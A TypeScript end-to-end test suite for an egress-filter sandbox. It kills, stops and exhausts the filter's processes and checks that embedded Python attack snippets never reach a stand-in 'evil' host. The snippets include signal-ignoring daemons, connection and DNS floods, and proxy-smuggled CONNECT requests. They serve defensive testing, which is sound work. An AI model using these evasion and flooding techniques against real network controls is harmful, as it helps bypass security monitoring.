import { type ChildProcess, execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { LogEvent } from '../../src/log/event.ts';
import { asked, CLI, exit, type Lab, reached, readJsonLines, WORLD } from '../e2e/lab.ts';
import { leftBehind, newlyLeft } from '../e2e/left-behind.ts';
import { denials, PYTHON, PYTHON_EXE, program, startAttackLab } from './attack.ts';

/** F1, F2, F5, I3: parts that die, stop, fill up or are taken away. Nothing may leave meanwhile, and nothing be left afterwards. */
let lab: Lab;
let before: string[];
beforeAll(async () => {
  lab = await startAttackLab();
});
afterAll(() => lab?.stop());
beforeEach(() => {
  before = leftBehind(lab.job);
});
afterEach(() => {
  expect(newlyLeft(lab.job, before)).toEqual([]);
});

const flood = (way: string, count: number): string[] => [PYTHON, program(lab, 'privilege/flood.py'), way, String(count), WORLD.evil];

interface Running {
  readonly child: ChildProcess;
  output(): string;
  /** Resolves once the text was printed. */
  until(text: string): Promise<void>;
  say(line: string): void;
}

function start(argv: string[], options: Parameters<Lab['spawn']>[1] = {}): Running {
  const child = lab.spawn(argv, options);
  let output = '';
  for (const stream of [child.stdout, child.stderr])
    stream?.on('data', (chunk) => {
      output += String(chunk);
    });
  const until = async (text: string): Promise<void> => {
    for (const end = Date.now() + 60_000; Date.now() < end; ) {
      if (output.includes(text)) return;
      if (child.exitCode !== null) break;
      await sleep(20);
    }
    throw new Error(`"${text}" was not printed; this was: ${output}`);
  };
  return { child, output: () => output, until, say: (line) => void child.stdin?.write(`${line}\n`) };
}

const statusOf = (pid: string | number, field: string): string | undefined => {
  try {
    return new RegExp(`^${field}:\\t(\\S+)`, 'm').exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
  } catch {
    // It ended while we looked.
    return undefined;
  }
};

/** Children of the guard: `ip netns exec` and the launcher replace themselves, so the spawned process is the guard. */
function childOf({ child }: Running, proxy: boolean): number {
  const found = readdirSync('/proc').find((pid) => {
    if (!/^\d+$/.test(pid) || statusOf(pid, 'PPid') !== String(child.pid)) return false;
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').startsWith('egress-filter-proxy\0') === proxy;
  });
  if (!found) throw new Error('the run has no such process');
  return Number(found);
}

/**
 * Tries everything, for each line that it is told or `count` times, and prints what was reached: an echo, a page, an address. Patient in the rounds of
 * `served`, where all that is allowed answers however busy the machine is.
 */
const tryAll = (rounds: string, served: string[] = []): string => `import socket, sys, time
patience = 2
def tcp(address, word, port=9999):
    s = socket.create_connection((address, port), patience); s.sendall(word); return s.recv(100)
def udp(address, word):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(patience / 2); s.connect((address, 9999)); s.send(word); return s.recv(100)
def page(address):
    return b"200 OK" in tcp(address, b"GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n", 80)
print("started", flush=True)
for line in ${rounds}:
    got, patience = [], 30 if str(line).strip() in ${JSON.stringify(served)} else 2
    for name, call in {"evil page": lambda: page("${WORLD.evil}"), "evil tcp": lambda: tcp("${WORLD.evil}", b"x") == b"x",
            "evil udp": lambda: udp("${WORLD.evil}", b"x") == b"x", "good tcp": lambda: tcp("${WORLD.ok}", b"x") == b"x",
            "good udp": lambda: udp("${WORLD.ok}", b"x") == b"x", "name": lambda: bool(socket.gethostbyname("ok.test"))}.items():
        try:
            if call(): got.append(name)
        except OSError: pass
    print("tried", str(line).strip(), got, flush=True)`;
const TRY_ALL = tryAll('sys.stdin', ['before']);
const GOOD = '203.0.113.10:9999\n203.0.113.10:9999/udp\nok.test';
const ALL_GOOD = "['good tcp', 'good udp', 'name']";

const nothing = (mark: ReturnType<Lab['marks']>): void => {
  const since = lab.since(mark);
  expect(reached(since, WORLD.evil)).toEqual([]);
  expect(reached(since, WORLD.ok)).toEqual([]);
  expect(asked(since)).toEqual([]);
};

describe('F1: the parts of a run', () => {
  test('a proxy that is killed with connections open: they end, and nothing else begins', async () => {
    const hold = `import socket, sys
s = socket.create_connection(("${WORLD.ok}", 9999), 5); s.sendall(b"one"); print("held", s.recv(10), flush=True)
sys.stdin.readline()
try:
    s.sendall(b"two"); print("then", s.recv(10))
except OSError as e: print("then", type(e).__name__)
${TRY_ALL}`;
    const run = start([PYTHON, '-c', hold], { policy: GOOD });
    await run.until("held b'one'");
    const proxy = childOf(run, true);
    process.kill(proxy, 'SIGKILL');
    await run.until('no network from here on');
    const mark = lab.marks();
    run.say('go');
    await run.until('started');
    run.say('after');
    await run.until('tried after');
    run.child.stdin?.end();
    expect(await exit(run.child, 20_000)).toBe(0);
    expect(run.output()).toMatch(/then (b''|ConnectionResetError|BrokenPipeError)/);
    expect(run.output()).toContain('tried after []');
    // What ends the old connection is seen there, and nothing but that.
    expect(lab.since(mark).packets.filter(({ data }) => (data ?? 0) > 0)).toEqual([]);
    expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
  });

  test('a proxy that is stopped: everything waits, nothing passes, and it goes on afterwards', async () => {
    const run = start([PYTHON, '-c', TRY_ALL], { policy: GOOD });
    await run.until('started');
    const proxy = childOf(run, true);
    process.kill(proxy, 'SIGSTOP');
    const mark = lab.marks();
    run.say('stopped');
    await run.until('tried stopped');
    nothing(mark);
    expect(run.output()).toContain('tried stopped []');
    process.kill(proxy, 'SIGCONT');
    run.say('again');
    await run.until('tried again');
    expect(run.output()).toContain(`tried again ${ALL_GOOD}`);
    run.child.stdin?.end();
    expect(await exit(run.child, 20_000)).toBe(0);
    expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
  });

  test('a guard that is stopped, ten times in a row: what is allowed goes on, nothing else begins, and each is told', async () => {
    const run = start(
      [
        PYTHON,
        '-c',
        tryAll(
          'sys.stdin',
          Array.from({ length: 10 }, (_, i) => `stopped${i}`),
        ),
      ],
      {
        policy: GOOD,
        args: ['--log', join(lab.directory, 'stopped.jsonl')],
      },
    );
    await run.until('started');
    const mark = lab.marks();
    for (let round = 0; round < 10; round++) {
      process.kill(run.child.pid ?? 0, 'SIGSTOP');
      run.say(`stopped${round}`);
      await run.until(`tried stopped${round} ${ALL_GOOD}`);
      process.kill(run.child.pid ?? 0, 'SIGCONT');
    }
    run.child.stdin?.end();
    expect(await exit(run.child, 20_000)).toBe(0);
    expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
    const log = readJsonLines<LogEvent>(join(lab.directory, 'stopped.jsonl'));
    const told = (type: string): number => denials({ log }).filter((line) => line.type === type && line.dst_ip === WORLD.evil).length;
    // Datagrams of one flow within ten seconds have one line.
    expect([told('tcp') + told('http') >= 20, told('udp') >= 1]).toEqual([true, true]);
    for (const line of denials({ log })) expect(line).toMatchObject({ exe: PYTHON_EXE });
  });

  test('guard and proxy stopped: everything waits, nothing passes, and it goes on afterwards', async () => {
    const run = start([PYTHON, '-c', tryAll('sys.stdin', ['again'])], { policy: GOOD });
    await run.until('started');
    const both = [run.child.pid ?? 0, childOf(run, true)];
    for (const pid of both) process.kill(pid, 'SIGSTOP');
    const mark = lab.marks();
    run.say('stopped');
    await run.until('tried stopped []');
    nothing(mark);
    for (const pid of both) process.kill(pid, 'SIGCONT');
    run.say('again');
    await run.until(`tried again ${ALL_GOOD}`);
    run.child.stdin?.end();
    expect(await exit(run.child, 20_000)).toBe(0);
    expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
  });

  test.each([
    ['a guard that is killed: the proxy goes with it', false],
    ['guard and proxy killed at once', true],
  ])('%s, the command stays shut in, and clean removes it', async (_what, both) => {
    // On its own: with the guard its standard input ends.
    const run = start([PYTHON, '-c', tryAll('range(100)', ['0'])], { policy: GOOD, user: 'root' });
    await run.until(`tried 0 ${ALL_GOOD}`);
    const [proxy, init] = [childOf(run, true), childOf(run, false)];
    process.kill(run.child.pid ?? 0, 'SIGKILL');
    if (both) process.kill(proxy, 'SIGKILL');
    for (let look = 0; look < 200 && ![undefined, 'Z'].includes(statusOf(proxy, 'State')); look++) await sleep(50);
    expect([undefined, 'Z']).toContain(statusOf(proxy, 'State'));
    await lab.quiet();
    const mark = lab.marks();
    const tried = run.output().split('tried').length;
    for (let look = 0; look < 1200 && run.output().split('tried').length < tried + 2; look++) await sleep(50);
    expect(run.output()).toMatch(/tried \d+ \[\]\n$/);
    nothing(mark);
    const cleaned = spawnSync(CLI, ['clean'], { encoding: 'utf8', env: { PATH: process.env.PATH } });
    expect(cleaned.status).toBe(0);
    expect([undefined, 'Z']).toContain(statusOf(init, 'State'));
    nothing(mark);
  });

  test('redirects removed by hand: the gate holds', async () => {
    const run = start([PYTHON, '-c', TRY_ALL], { policy: GOOD });
    await run.until('started');
    run.say('before');
    await run.until(`tried before ${ALL_GOOD}`);
    const chains = execFileSync('ip', ['netns', 'exec', lab.job, 'iptables', '-t', 'nat', '-S'], { encoding: 'utf8' });
    for (const chain of new Set(chains.match(/EGF-[0-9a-f]{8}-N/g)))
      execFileSync('ip', ['netns', 'exec', lab.job, 'iptables', '-t', 'nat', '-F', chain]);
    // The connections of the round before are closed by those who have them, in their own time.
    await lab.quiet();
    const mark = lab.marks();
    run.say('after');
    await run.until('tried after');
    run.child.stdin?.end();
    expect(await exit(run.child, 20_000)).toBe(0);
    const since = lab.since(mark);
    expect(reached(since, WORLD.evil)).toEqual([]);
    expect(since.packets.filter(({ proto }) => proto === 6)).toEqual([]);
    expect(asked(since)).toEqual([]);
    expect(run.output()).toMatch(/tried after \[('good udp')?\]\n/);
  });
});

describe('F5, I3: what outlives the command', () => {
  test('daemons, sessions and stopped processes end with it, before the filter does', async () => {
    const attack = `import os, signal, socket, time
def daemon():
    if os.fork(): return
    os.setsid()
    if os.fork(): os._exit(0)
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)
    for i in range(60):
        try: socket.create_connection(("${WORLD.evil}", 9999), 1).sendall(b"late")
        except OSError: pass
        time.sleep(0.05)
    os._exit(0)
for _ in range(5): daemon()
pid = os.fork()
if pid == 0: time.sleep(100)
os.kill(pid, signal.SIGSTOP)
time.sleep(0.3)`;
    const mark = lab.marks();
    const result = await lab.run([PYTHON, '-c', attack]);
    expect(result.status).toBe(0);
    await sleep(1500);
    expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
  });

  const freezer = existsSync('/sys/fs/cgroup/freezer/tasks');
  test.skipIf(!freezer)(
    `a process that cannot be killed stays shut in when the run gives up${freezer ? '' : ' (skipped: no cgroup v1 freezer)'}`,
    async () => {
      const attack = `import os, socket, time
if os.fork() == 0:
    os.setsid()
    while True:
        try: socket.create_connection(("${WORLD.evil}", 9999), 1).sendall(b"late")
        except OSError: pass
        time.sleep(0.05)
print("started", flush=True); input()`;
      const run = start([PYTHON, '-c', attack]);
      await run.until('started');
      const init = childOf(run, false);
      const command = readFileSync(`/proc/${init}/task/${init}/children`, 'utf8').trim();
      const child = readFileSync(`/proc/${command}/task/${command}/children`, 'utf8').trim();
      const frozen = `/sys/fs/cgroup/freezer/egf-frozen-${process.pid}`;
      mkdirSync(frozen);
      const mark = lab.marks();
      try {
        writeFileSync(join(frozen, 'tasks'), child);
        writeFileSync(join(frozen, 'freezer.state'), 'FROZEN');
        run.say('end');
        run.child.stdin?.end();
        // The frozen process keeps the output open.
        await run.until('egress-filter clean');
        await new Promise<void>((done) => (run.child.exitCode === null ? run.child.once('exit', () => done()) : done()));
        expect(run.child.exitCode).toBe(0);
        expect(run.output()).toContain('Clean-up was not complete: Processes in');
        // The chains are there still, and so is what clean needs.
        expect(leftBehind(lab.job).some((object) => object.includes('-G'))).toBe(true);
      } finally {
        writeFileSync(join(frozen, 'freezer.state'), 'THAWED');
        await sleep(300);
        rmdirSync(frozen);
      }
      expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
      expect(spawnSync(CLI, ['clean'], { env: { PATH: process.env.PATH } }).status).toBe(0);
    },
    60_000,
  );
});

describe('F2: exhaustion', () => {
  /** The flood, and then something allowed, by another program. */
  const thenGood = (argv: string[]): string[] => ['sh', '-c', `${argv.join(' ')}; sleep 1; curl -sS -m 30 https://ok.test/`];

  test.each([
    ['processes', 200],
    ['connections', 4000],
    ['questions', 20_000],
    ['datagrams', 20_000],
    // EGF_FLOWS in bpf/record.h is 65536: the oldest records go, also those of who is still there.
    ['flows', 100_000],
  ])('%s: %i of them', async (way, count) => {
    const result = await lab.run(thenGood(['prlimit', '--nproc=400', '--nofile=8192', ...flood(way, count)]), {
      policy: GOOD,
      timeoutMs: 90_000,
    });
    expect(result.stdout).toMatch(new RegExp(`^${way} \\d+$`, 'm'));
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(asked(result).filter((name) => name.includes('evil'))).toEqual([]);
    expect(result.stdout).toContain('hello from ok.test');
    const line = denials(result).find(({ dst_ip, dst_port }) => dst_ip === WORLD.evil && dst_port === (way === 'questions' ? 53 : 9999));
    const others = JSON.stringify(result.log.filter(({ type }) => !['udp', 'dns'].includes(type)).slice(0, 20));
    expect(line?.exe, `${result.log.length} lines, ${others}\n${result.stdout}\n${result.stderr}`).toBe(PYTHON_EXE);
  });

  test('a proxy that gets no more memory: it ends, and nothing passes any more', async () => {
    const script = `echo ready; read x; ${flood('connections', 3000).join(' ')}; exec ${PYTHON} -c "$0"`;
    const run = start(['sh', '-c', script, tryAll('range(1)')], { policy: GOOD });
    await run.until('ready');
    const proxy = childOf(run, true);
    const kilobytes = Number(/^VmSize:\s+(\d+)/m.exec(readFileSync(`/proc/${proxy}/status`, 'utf8'))?.[1]);
    // Half of what it has mapped: whatever it asks for now fails. As the process's own user: root needs CAP_SYS_RESOURCE, which it lacks in many containers (prlimit(2)).
    const [uid, gid] = [statusOf(proxy, 'Uid'), statusOf(proxy, 'Gid')];
    execFileSync('setpriv', [`--reuid=${uid}`, `--regid=${gid}`, '--clear-groups', 'prlimit', `--pid=${proxy}`, `--as=${kilobytes * 512}`]);
    const mark = lab.marks();
    run.say('go');
    run.child.stdin?.end();
    expect(await exit(run.child, 60_000)).toBe(0);
    expect(run.output()).toContain('no network from here on');
    expect(run.output()).toContain('tried 0 []');
    nothing(mark);
  });

  test('a run that may open few files itself', async () => {
    const mark = lab.marks();
    const argv = [
      'netns',
      'exec',
      lab.job,
      'prlimit',
      '--nofile=128:128',
      CLI,
      'run',
      '--user',
      'nobody',
      '--',
      ...flood('connections', 400),
    ];
    const done = spawnSync('ip', argv, { encoding: 'utf8', env: { PATH: process.env.PATH }, timeout: 60_000 });
    expect(done.status).toBe(0);
    await sleep(100);
    expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
  });

  test('a log on a disk that is full: what cannot be written is counted, and nothing passes for it', async () => {
    const disk = join(lab.directory, 'small-disk');
    mkdirSync(disk);
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', disk]);
    try {
      const mark = lab.marks();
      const run = start(['sh', '-c', `${flood('connections', 1500).join(' ')}; curl -sS -m 10 https://ok.test/`], {
        policy: GOOD,
        args: ['--log', join(disk, 'log.jsonl')],
      });
      run.child.stdin?.end();
      expect(await exit(run.child, 60_000)).toBe(0);
      expect(reached(lab.since(mark), WORLD.evil)).toEqual([]);
      expect(run.output()).toMatch(/event\(s\) could not be written to the log/);
      for (const line of readFileSync(join(disk, 'log.jsonl'), 'utf8').split('\n').filter(Boolean))
        expect(() => JSON.parse(line)).not.toThrow();
    } finally {
      execFileSync('umount', [disk]);
    }
  });
});

test('F2: a log in a folder that is read-only: the command does not begin, and why is told', async () => {
  const disk = join(lab.directory, 'read-only');
  mkdirSync(disk);
  execFileSync('mount', ['-t', 'tmpfs', '-o', 'ro,size=64k', 'tmpfs', disk]);
  try {
    const mark = lab.marks();
    const result = await lab.run([PYTHON, '-c', tryAll('range(1)')], { policy: GOOD, args: ['--log', join(disk, 'log.jsonl')] });
    expect(result.status).toBe(2);
    expect(result.stderr).toMatch(/cannot be written: the file system is read-only/);
    expect(result.stdout).toBe('');
    nothing(mark);
  } finally {
    execFileSync('umount', [disk]);
  }
});

describe('several runs', () => {
  test('one is no way out for another, nor the other its end', async () => {
    const other = start(['sh', '-c', 'echo started; read x; curl -sS -m 5 https://ok.test/'], {
      policy: 'evil.test\n203.0.113.66:*\nok.test',
    });
    await other.until('started');
    const ports = execFileSync('ip', ['netns', 'exec', lab.job, 'ss', '-Htlnu'], { encoding: 'utf8' }).match(/127\.0\.0\.1:\d+/g) ?? [];
    expect(ports.length).toBeGreaterThan(0);
    const ask = `import socket
for at in ${JSON.stringify(ports)}:
    port = int(at.split(":")[1])
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for word in (b"GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", b"CONNECT evil.test:80 HTTP/1.1\\r\\n\\r\\n", b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1"):
            s = socket.socket(socket.AF_INET, kind); s.settimeout(0.5)
            try:
                s.connect(("127.0.0.1", port)); s.sendall(word); s.recv(1000)
            except OSError: pass
            s.close()`;
    const result = await lab.run([PYTHON, '-c', ask]);
    expect(result.status).toBe(0);
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(asked(result)).toEqual([]);
    other.say('go');
    expect(await exit(other.child, 20_000)).toBe(0);
    expect(other.output()).toContain('hello from ok.test');
  });
});
